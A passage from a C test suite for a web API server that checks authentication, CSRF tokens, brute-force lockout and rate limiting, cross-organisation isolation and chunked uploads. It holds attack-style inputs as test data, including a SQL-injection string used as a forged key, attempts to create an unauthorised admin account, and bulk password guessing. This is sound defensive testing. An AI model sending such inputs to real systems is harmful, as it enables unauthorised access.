    expect(&reader, "GET", "/api/v1/saved-queries", NULL, 200, "\"ours\"");
    /* a key for somebody of another organisation, or above oneself */
    (void)snprintf(body, sizeof body, "{\"user\":%lld,\"name\":\"k\",\"role\":\"reader\"}",
                   (long long)team.user[READER]);
    expect(&xuhui, "POST", "/api/v1/keys", body, 404, NULL);
    (void)snprintf(body, sizeof body,
                   "{\"name\":\"mole\",\"role\":\"admin\",\"password\":\"" PEOPLE_PASSWORD
                   "\",\"organisation\":%lld}",
                   (long long)team.pudong);
    wire_ask(&server, &xuhui, "POST", "/api/v1/users", body, &a);
    if (a.status != 404 && a.status != 403) fail_msg("a user elsewhere: %d", a.status);
    wire_done(&a);
    wire_ask(&server, &xuhui, "POST", "/api/v1/users",
             "{\"name\":\"mole\",\"role\":\"admin\",\"password\":\"" PEOPLE_PASSWORD "\"}", &a);
    if (a.status < 400) fail_msg("an administrator of everything: %d", a.status);
    wire_done(&a);
}

/* ---- keys and tokens ---- */

static void forged_keys(void **state) {
    char key[PX_KEY_TEXT + 512];
    wire_who who = {.key = key};
    (void)state;
    for (size_t i = 0; team.key[READER][i]; i++) {
        (void)snprintf(key, sizeof key, "%s", team.key[READER]);
        key[i] = key[i] == 'A' ? 'B' : 'A';
        expect(&who, "GET", "/api/v1/me", NULL, 401, NULL);
    }
    static const char *const forged[] = {"", " ", "pxk_", "' OR '1'='1", "null", "desk"};
    for (size_t i = 0; i < sizeof forged / sizeof *forged; i++) {
        (void)snprintf(key, sizeof key, "%s", forged[i]);
        expect(&who, "GET", "/api/v1/me", NULL, 401, NULL);
    }
    memset(key, 'A', sizeof key - 1);
    key[sizeof key - 1] = 0;
    expect(&who, "GET", "/api/v1/me", NULL, 401, NULL);
    /* another scheme, two of them, and a key where none belongs */
    char fields[400];
    who = (wire_who){.fields = fields};
    static const char *const shapes[] = {"Authorization: Basic %s\r\n", "Authorization: %s\r\n",
                                         "X-Api-Key: %s\r\n", "Authorization: Bearer\r\nX: %s\r\n",
                                         "Authorization: Bearer x\r\nAuthorization: Bearer %s\r\n"};
    for (size_t i = 0; i < sizeof shapes / sizeof *shapes; i++) {
        wire_answer a;
        (void)snprintf(fields, sizeof fields, shapes[i], team.key[READER]);
        wire_ask(&server, &who, "GET", "/api/v1/me", NULL, &a);
        if (a.status != 401 && a.status != 400) fail_msg("%s: %d", fields, a.status);
        wire_done(&a);
    }
    char target[200];
    who = (wire_who){0};
    (void)snprintf(target, sizeof target, "/api/v1/status?key=%s", team.key[READER]);
    expect(&who, "GET", target, NULL, 401, NULL);
}

static void expired_key(void **state) {
    char body[200], stamp[40];
    wire_who root = as(ADMIN);
    wire_answer a;
    (void)state;
    time_t soon = time(NULL) + 2;
    struct tm tm;
    (void)gmtime_r(&soon, &tm);
    (void)strftime(stamp, sizeof stamp, "%Y-%m-%dT%H:%M:%SZ", &tm);
    (void)snprintf(body, sizeof body,
                   "{\"user\":%lld,\"name\":\"short\",\"role\":\"reader\",\"expires\":\"%s\"}",
                   (long long)team.user[READER], stamp);
    wire_ask(&server, &root, "POST", "/api/v1/keys", body, &a);
    /* On a machine that took two seconds for it, the time has passed, and a key that never was good is not made. */
    if (a.status == 201) {
        px_json *j = json_of(&a, "key");
        char key[PX_KEY_TEXT];
        (void)snprintf(key, sizeof key, "%.*s", PX_STR_ARG(px_json_str(px_json_get(j, "key"))));
        px_json_free(j);
        while (time(NULL) <= soon)
            (void)usleep(50000);
        expect(&(wire_who){.key = key}, "GET", "/api/v1/me", NULL, 401, NULL);
    } else {
        check_problem(&a, 400, "USAGE", body);
    }
    wire_done(&a);
    (void)snprintf(body, sizeof body,
                   "{\"user\":%lld,\"name\":\"gone\",\"role\":\"reader\",\"expires\":"
                   "\"2001-01-01\"}",
                   (long long)team.user[READER]);
    expect(&root, "POST", "/api/v1/keys", body, 400, NULL);
}

/* ---- sessions ---- */

static void log_in(const char *name, const char *password, char token[64], char csrf[64]) {
    char body[200];
    wire_answer a;
    (void)snprintf(body, sizeof body, "{\"name\":\"%s\",\"password\":\"%s\"}", name, password);
    wire_ask(&server, &(wire_who){0}, "POST", "/api/v1/login", body, &a);
    if (a.status != 200) fail_msg("%s: %.*s", name, PX_STR_ARG(px_buf_view(&a.all)));
    px_str cookie = wire_field(&a, "set-cookie");
    assert_true(px_str_starts(cookie, PX_STR("patix_session=")));
    assert_true(px_str_find(cookie, PX_STR("HttpOnly")) != SIZE_MAX);
    assert_true(px_str_find(cookie, PX_STR("SameSite=Strict")) != SIZE_MAX);
    (void)snprintf(token, 64, "%.*s", 43, cookie.p + 14);
    px_json *j = json_of(&a, "login");
    (void)snprintf(csrf, 64, "%.*s", PX_STR_ARG(px_json_str(px_json_get(j, "csrf"))));
    px_json_free(j);
    wire_done(&a);
}

/* No change with a cookie goes without its token: every operation that is none of reading. */
static void tokens(void **state) {
    char token[64], csrf[64], other[64], other_csrf[64];
    px_buf b;
    size_t asked = 0;
    (void)state;
    px_buf_init(&b, 1 << 16);
    log_in("root", PEOPLE_PASSWORD, token, csrf);
    log_in("curator", PEOPLE_PASSWORD, other, other_csrf);
    for (size_t i = 0; i < n_all; i++) {
        const operation *o = &all[i];
        bool reads = strcmp(o->method, "GET") == 0 || o->role == 0 || o->foreign;
        px_str path = {o->path, o->path_n};
        /* questions that are too long for an address */
        static const char *const questions[] = {
            "/api/v1/search", "/api/v1/count",     "/api/v1/explain",
            "/api/v1/format", "/api/v1/translate", "/api/v1/records",
            "/api/v1/export", "/api/v1/similar",   "/api/v1/analyses/{ids}"};
        for (size_t q = 0; q < sizeof questions / sizeof *questions; q++)
            reads = reads || px_str_is(path, questions[q]);
        if (reads) continue;
        static const char *const wrong_ones[] = {NULL, "", "wrong", "OTHER"};
        target_of(o, NULL, NULL, &b);
        for (size_t k = 0; k < 4; k++, asked++) {
            wire_who who = {.cookie = token, .csrf = wrong_ones[k]};
            if (k == 3) who.csrf = other_csrf;
            wire_answer a;
            wire_ask(&server, &who, o->method, b.p, "{}", &a);
            check_problem(&a, 403, "FORBIDDEN", b.p);
            wire_done(&a);
        }
        wire_who who = {.cookie = token, .csrf = csrf};
        wire_answer a;
        if (is_operation(o, "logout")) continue;
        wire_ask(&server, &who, o->method, b.p, "{}", &a);
        if (a.status == 403 || a.status == 401)
            fail_msg("%s %s: %.*s", o->method, b.p, PX_STR_ARG(px_buf_view(&a.all)));
        wire_done(&a);
    }
    assert_true(asked >= 40);
    /* a page of another origin cannot log somebody in: a form is no JSON */
    wire_who form = {.type = "application/x-www-form-urlencoded"};
    expect(&form, "POST", "/api/v1/login", "name=root&password=" PEOPLE_PASSWORD, 400, NULL);
    form.type = "text/plain";
    expect(&form, "POST", "/api/v1/login",
           "{\"name\":\"root\",\"password\":\"" PEOPLE_PASSWORD "\"}", 415, NULL);
    /* forged and ended sessions */
    wire_who who = {.cookie = token};
    expect(&who, "GET", "/api/v1/me", NULL, 200, "\"root\"");
    token[10] = token[10] == 'A' ? 'B' : 'A';
    expect(&who, "GET", "/api/v1/me", NULL, 401, NULL);
    who = (wire_who){.cookie = other, .csrf = other_csrf};
    expect(&who, "POST", "/api/v1/me/password",
           "{\"old\":\"" PEOPLE_PASSWORD "\",\"new\":\"another battery\"}", 200, NULL);
    log_in("curator", "another battery", token, csrf);
    who = (wire_who){.cookie = token, .csrf = csrf};
    expect(&who, "POST", "/api/v1/logout", NULL, 200, NULL);
    expect(&who, "GET", "/api/v1/me", NULL, 401, NULL);
    px_buf_done(&b);
}

/* ---- guessing ---- */

static void brute_force(void **state) {
    static const char guess[] = "{\"name\":\"analyst\",\"password\":\"wrong password\"}";
    static const char right[] = "{\"name\":\"analyst\",\"password\":\"" PEOPLE_PASSWORD "\"}";
    wire_who nobody = {0}, root = as(ADMIN);
    (void)state;
    time_t before = 0; /* the failure that locks */
    for (int i = 0; i < px_login_delays[0].failed; i++) {
        before = time(NULL);
        expect(&nobody, "POST", "/api/v1/login", guess, 401, NULL);
    }
    /* Locked for two seconds; a machine so slow that they have passed goes on failing until it is locked for longer. */
    wire_answer a;
    int tries = 0;
    do {
        wire_ask(&server, &nobody, "POST", "/api/v1/login", guess, &a);
        if (a.status == 401) wire_done(&a);
    } while (a.status == 401 && ++tries < 20);
    check_problem(&a, 429, "RATE", guess);
    if (!wire_field(&a, "retry-after").n) fail_msg("no Retry-After");
    wire_done(&a);
    /* The right password is refused, too, unless the time of the shortest lock has passed meanwhile. */
    wire_ask(&server, &nobody, "POST", "/api/v1/login", right, &a);
    if (a.status != 429 && (a.status != 200 || time(NULL) - before < px_login_delays[0].wait_s))
        fail_msg("locked: %d", a.status);
    wire_done(&a);
    /* a name that nobody has is answered alike */
    static const char unknown[] = "{\"name\":\"nobody.here\",\"password\":\"wrong password\"}";
    expect(&nobody, "POST", "/api/v1/login", unknown, 401, "the name or the password is wrong");
    /* many names from one address: refused by address, whatever the name and the password */
    wire_who one = {.peer = "198.51.100.7"};
    for (tries = 0; tries < 200; tries++) {
        wire_ask(&server, &one, "POST", "/api/v1/login", "{\"name\":\"x\"}", &a);
        if (a.status == 429) break;
        wire_done(&a);
    }
    check_problem(&a, 429, "RATE", "many names");
    if (!wire_field(&a, "retry-after").n) fail_msg("no Retry-After");
    wire_done(&a);
    /* all of it stands in the log: the failures, the refusals, the address */
    expect(&root, "GET", "/api/v1/audit?what=login&who=analyst", NULL, 200, "\"failed\"");
    expect(&root, "GET", "/api/v1/audit?what=login&who=analyst", NULL, 200, "\"locked\"");
    expect(&root, "GET", "/api/v1/audit?what=login", NULL, 200, "\"peer\":\"10.");
    expect(&root, "GET", "/api/v1/audit?what=export", NULL, 200, "\"ok\"");
    expect(&root, "GET", "/api/v1/audit?what=user.add", NULL, 200, "xuhui.admin");
}

/* ---- a file in pieces ---- */

/* Small files, each sent in pieces, by a client that waits on and at the same time by one that has closed its own side behind the last
 * byte; beside a connection older than theirs that does nothing. Each gets its answer: what it sent was whole. */
static void files_in_pieces(void **state) {
    static const char *const pieces[][8] = {
        {"Content-Length: 25\r\n\r\n{\"pub\":\"US2010000001A1\"}\n"},
        {"Content-Length: 25\r\n", "\r\n", "{\"pub\":\"US2010", "000001A1\"}\n"},
        {"Transfer-Encoding: chunked\r\n\r\n19\r\n{\"pub\":\"US2010000001A1\"}\n\r\n0\r\n\r\n"},
        {"Transfer-Encoding: chunked\r\n\r\n", "1\r\n{\r\n1", "8\r\n\"pub\":\"US2010000001A1\"}\n",
         "\r\n0", "\r\n", "\r\n"}};
    (void)state;
    int idle = wire_connect(&server);
    px_buf head;
    px_buf_init(&head, PX_BUF_MAX);
    px_buf_fmt(&head,
               "POST /api/v1/imports?name=a.jsonl&dry-run=true HTTP/1.1\r\nHost: localhost\r\n"
               "Connection: close\r\nX-Forwarded-For: 198.51.100.9\r\nAuthorization: Bearer %s\r\n",
               team.key[CURATOR]);
    for (size_t i = 0; i < sizeof pieces / sizeof *pieces; i++) {
        int fd[2];
        for (size_t k = 0; k < 2; k++) {
            fd[k] = wire_connect(&server);
            wire_send(fd[k], px_buf_view(&head));
            for (size_t p = 0; p < 8 && pieces[i][p]; p++)
                wire_send(fd[k], px_str_of(pieces[i][p]));
            if (k) (void)shutdown(fd[k], SHUT_WR);
        }
        for (size_t k = 0; k < 2; k++) {
            wire_answer a;
            wire_read(fd[k], &a);
            (void)close(fd[k]);
            if (a.status != 202)
                fail_msg("form %zu%s: %d \"%.*s\"", i, k ? ", its side closed" : "", a.status,
                         PX_STR_ARG(px_buf_view(&a.all)));
            wire_done(&a);
        }
    }
    (void)close(idle);
    px_buf_done(&head);
}

/* ---- setup ---- */

static int setup(void **state) {
    static const char *const lines[] = KIT_LINES;
    static const char *const settings[] = {
        "log", "/dev/null", "connections_per_address", "4000", "header_bytes", "65536", NULL};
    (void)state;
    kit_open(&set, lines, 3);
    people_make(&team, set.dir);
    wire_up(&server, set.dir, "/proc/self/exe", NULL, settings);
    read_api();
    return 0;
}

static int teardown(void **state) {
    (void)state;
    wire_down(&server);
    px_json_free(api);
    kit_close(&set);
    return 0;
}

static int index_command(int argc, char **argv) {
    px_err e;
    px_err_clear(&e);
    px_status st = px_text_init(&e);
    if (st == PX_OK) st = px_cmd_index(argc, argv, &e);
    if (st != PX_OK) (void)fprintf(stderr, "patix: %s\n", e.message);
    return px_status_exit(st);
}

/* This program is the importer as well, called as `… index …`. */
int main(int argc, char **argv) {
    static const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_operation),    cmocka_unit_test(every_role),
        cmocka_unit_test(every_mistake),      cmocka_unit_test(evil_everywhere),
        cmocka_unit_test(forged_keys),        cmocka_unit_test(expired_key),
        cmocka_unit_test(other_organisation), cmocka_unit_test(tokens),
        cmocka_unit_test(brute_force),        cmocka_unit_test(files_in_pieces)};
    if (argc > 1 && strcmp(argv[1], "index") == 0) return index_command(argc - 1, argv + 1);
    return cmocka_run_group_tests(tests, setup, teardown);
}
